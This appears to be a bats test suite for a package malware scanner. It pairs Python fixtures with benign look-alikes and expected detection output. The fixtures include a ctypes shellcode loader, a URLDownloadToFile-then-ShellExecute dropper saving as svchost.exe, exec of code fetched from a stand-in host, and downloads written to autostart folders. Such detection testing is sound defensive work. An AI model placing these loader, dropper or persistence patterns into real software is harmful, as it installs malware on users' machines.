#!/usr/bin/env bats
# 49b-recall3.bats: techniques of recent malware (issue 11, part 3) — Windows and libc APIs
# reached through ctypes (shellcode loaders, URLDownloadToFile + ShellExecute), nested defs'
# summaries, files written through a helper's path parameter — each with the benign
# look-alike that must not fire.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p p/pkg; }

# tree_hits DIR [DETECTION...]: "path line detection context score" of the hits for a directory.
tree_hits() {
	local dir=$1
	shift
	local want
	want=$(printf '%s\n' "$@" | jq -R . | jq -sc 'map(select(. != ""))')
	aura-fetch "$dir" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --argjson w "$want" 'select(.type == "hit" and (($w | length) == 0 or (.detection as $d | $w | index($d)))) |
			"\(.path) \(.line) \(.detection) \(.context) \(.score)"' | sort -u
}

# risk DIR: the package's risk level as aura scan reports it.
risk() {
	aura scan --format json "$1" | jq -r '.. | objects | select(has("risk")) | .risk' | head -1
}

@test "a ctypes shellcode loader: VirtualAlloc, RtlMoveMemory of decoded bytes, CreateThread are ExecutableMemory and the copy runs decoded data" {
	cat > p/pkg/__init__.py <<'PY'
import base64
import ctypes

blob = base64.b64decode(open(__file__.replace("__init__.py", "data.bin")).read())
kernel = ctypes.WinDLL("KERNEL32.DLL")
addr = kernel.VirtualAlloc(None, len(blob), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(addr), blob, len(blob))
thread = ctypes.windll.LoadLibrary("kernel32").CreateThread(None, 0, ctypes.c_void_p(addr), None, 0, None)
PY
	run tree_hits p ExecutableMemory ObfuscatedCodeExecution
	assert_output "$(printf '%s\n' \
		'pkg/__init__.py 6 ExecutableMemory import 60' \
		'pkg/__init__.py 7 ExecutableMemory import 60' \
		'pkg/__init__.py 7 ObfuscatedCodeExecution import 100' \
		'pkg/__init__.py 8 ExecutableMemory import 60')"
	run risk p
	assert_output critical
}

@test "a Linux loader: mmap/mprotect of libc through CDLL('libc.so.6') are ExecutableMemory" {
	cat > p/pkg/__init__.py <<'PY'
import ctypes
libc = ctypes.CDLL("libc.so.6")
page = libc.mmap(None, 4096, 7, 0x22, -1, 0)
libc.mprotect(page, 4096, 7)
PY
	run tree_hits p ExecutableMemory
	assert_output "$(printf '%s\n' 'pkg/__init__.py 3 ExecutableMemory import 60' 'pkg/__init__.py 4 ExecutableMemory import 60')"
}

@test "URLDownloadToFileW then ShellExecuteW of the saved path is a Dropper, like urlretrieve then os.startfile" {
	cat > p/pkg/__init__.py <<'PY'
import ctypes
target = "C:\\Users\\Public\\svchost.exe"
ctypes.windll.urlmon.URLDownloadToFileW(0, "https://updates.example.net/agent", target, 0, 0)
ctypes.windll.shell32.ShellExecuteW(None, "open", target, None, None, 0)
PY
	run tree_hits p Dropper NetworkRequest ProcessExecution
	assert_output "$(printf '%s\n' \
		'pkg/__init__.py 3 NetworkRequest import 40' \
		'pkg/__init__.py 4 Dropper import 120' \
		'pkg/__init__.py 4 ProcessExecution import 40')"
}

@test "look-alike: console modes, a runas relaunch in a function, memmove of a buffer and libc lookups load no shellcode" {
	cat > p/pkg/__init__.py <<'PY'
import ctypes
import ctypes.util
import sys

kernel32 = ctypes.WinDLL("kernel32", use_last_error=True)
handle = kernel32.GetStdHandle(-11)
mode = ctypes.c_ulong()
kernel32.GetConsoleMode(handle, ctypes.byref(mode))
kernel32.SetConsoleMode(handle, mode.value | 4)
libc = ctypes.CDLL(ctypes.util.find_library("c"))
pid = libc.getpid()

def copy_into(dst, data):
    ctypes.memmove(dst, data, len(data))

def relaunch_as_admin():
    ctypes.windll.shell32.ShellExecuteW(None, "runas", sys.executable, " ".join(sys.argv), None, 1)
PY
	run tree_hits p ExecutableMemory Dropper ObfuscatedCodeExecution RemoteCodeExecution
	assert_output ""
	run tree_hits p ProcessExecution
	assert_output "pkg/__init__.py 17 ProcessExecution function 2"
	run risk p
	refute_output --regexp '^(high|critical)$'
}

@test "a nested def's summary counts: what it downloads from a fixed host and its caller runs is RemoteCodeExecution" {
	cat > p/pkg/__init__.py <<'PY'
import requests

def install_helper():
    def fetch():
        return requests.get("https://cdn.example-host.net/stage2").text
    exec(fetch())
PY
	run tree_hits p RemoteCodeExecution
	assert_output "pkg/__init__.py 6 RemoteCodeExecution function 100"
	run risk p
	assert_output high
}

@test "look-alike: a nested def that downloads JSON its caller parses, beside an exec of a constant, runs no download" {
	cat > p/pkg/__init__.py <<'PY'
import json
import requests

def latest_version():
    def fetch():
        return requests.get("https://pypi.org/pypi/pkg/json").text
    info = json.loads(fetch())
    exec("x = 1")
    return info["info"]["version"]
PY
	run tree_hits p RemoteCodeExecution ObfuscatedCodeExecution Dropper
	assert_output ""
	run risk p
	refute_output --regexp '^(high|critical)$'
}

@test "a helper that saves a download to its path parameter: the caller's path then run is a Dropper (nested helpers too, run at import)" {
	cat > p/pkg/__init__.py <<'PY'
import requests
import subprocess

def fetch_and_start(url, exe_path):
    def save(link, file_path):
        response = requests.get(link)
        with open(file_path, "wb") as fh:
            fh.write(response.content)
    def start(path):
        subprocess.Popen(path)
    save(url, exe_path)
    start(exe_path)

fetch_and_start(URL, "helper.exe")
PY
	run tree_hits p Dropper
	assert_output "pkg/__init__.py 12 Dropper import 120"
}

@test "look-alike: a helper that saves a download which the caller only reads, and a process on another path, is no Dropper" {
	cat > p/pkg/__init__.py <<'PY'
import requests
import subprocess

def save(link, file_path):
    response = requests.get(link)
    with open(file_path, "wb") as fh:
        fh.write(response.content)

def refresh(url, cache_path, tool):
    save(url, cache_path)
    with open(cache_path) as fh:
        data = fh.read()
    subprocess.run([tool, "--version"])
    return data
PY
	run tree_hits p Dropper RemoteCodeExecution
	assert_output ""
}

@test "a download written into the Startup folder (path built with expanduser and os.path.join) is PersistedDownload" {
	cat > p/pkg/__init__.py <<'PY'
import os
import requests

def fetch_to_startup(url, name):
    folder = os.path.expanduser("~\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup")
    target = os.path.join(folder, name)
    body = requests.get(url).content
    with open(target, "wb") as out:
        out.write(body)

def autostart(code):
    with open(os.path.expanduser("~/.config/autostart/") + "agent.desktop", "w") as fh:
        fh.write(requests.get(code).text)
PY
	run tree_hits p PersistedDownload
	assert_output "$(printf '%s\n' 'pkg/__init__.py 13 PersistedDownload function 80' 'pkg/__init__.py 9 PersistedDownload function 80')"
	run risk p
	assert_output high
}

@test "look-alike: an autostart entry written from constants, and a download saved to a cache folder, are no PersistedDownload" {
	cat > p/pkg/__init__.py <<'PY'
import os
import requests

ENTRY = "[Desktop Entry]\nType=Application\nExec=myapp --tray\n"

def enable_autostart():
    path = os.path.join(os.path.expanduser("~/.config/autostart"), "myapp.desktop")
    with open(path, "w") as fh:
        fh.write(ENTRY)

def cache_model(url):
    target = os.path.join(os.path.expanduser("~/.cache/myapp"), "model.bin")
    with open(target, "wb") as fh:
        fh.write(requests.get(url).content)
PY
	run tree_hits p PersistedDownload Dropper
	assert_output ""
	run risk p
	refute_output --regexp '^(high|critical)$'
}

@test "look-alike: a setup.py probing a system library's version through the library object weighs like the load (system_library)" {
	cat > p/setup.py <<'PY'
import ctypes
from setuptools import setup
lib = ctypes.cdll.LoadLibrary("libssl.so")
version = lib.OpenSSL_version_num()
setup(name="pkg")
PY
	run tree_hits p NativeCode ExecutableMemory
	assert_output "$(printf '%s\n' 'setup.py 3 NativeCode install 5' 'setup.py 4 NativeCode install 5')"
}
